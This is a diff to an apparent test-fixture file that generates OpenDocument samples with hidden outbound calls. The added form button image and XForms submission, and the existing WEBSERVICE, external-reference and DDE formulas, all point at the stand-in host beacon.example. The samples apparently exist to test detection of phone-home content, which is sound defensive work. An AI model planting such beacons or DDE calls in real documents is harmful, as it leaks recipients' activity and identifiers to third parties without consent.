@@ -173,6 +173,12 @@ const p = (inside: string) => `<text:p>Kept ${inside}</text:p>`
 /** ODTs that hold a word deeper. */
 export const deepOdt = (who: string): Kind[] => [
   ...[
+    `<form:button xmlns:form="urn:oasis:names:tc:opendocument:xmlns:form:1.0" form:name="b" form:image-data="http://beacon.example/${who}.png"/>`,
+    `<xforms:model xmlns:xforms="http://www.w3.org/2002/xforms" schema="http://beacon.example/${who}"><xforms:submission action="http://beacon.example/${who}"/></xforms:model>`,
+  ].map(
+    (form): Kind => [`a form that asks elsewhere: ${form}`, anOdt({ body: `<office:forms>${form}</office:forms>` })],
+  ),
+  ...[
     `of:=WEBSERVICE(&quot;https://beacon.example/${who}&quot;)`,
     `of:=[&apos;https://beacon.example/${who}.ods&apos;#$S.A1]`,
     `of:=DDE(&quot;soffice&quot;;&quot;${who}&quot;;&quot;A1&quot;)`,
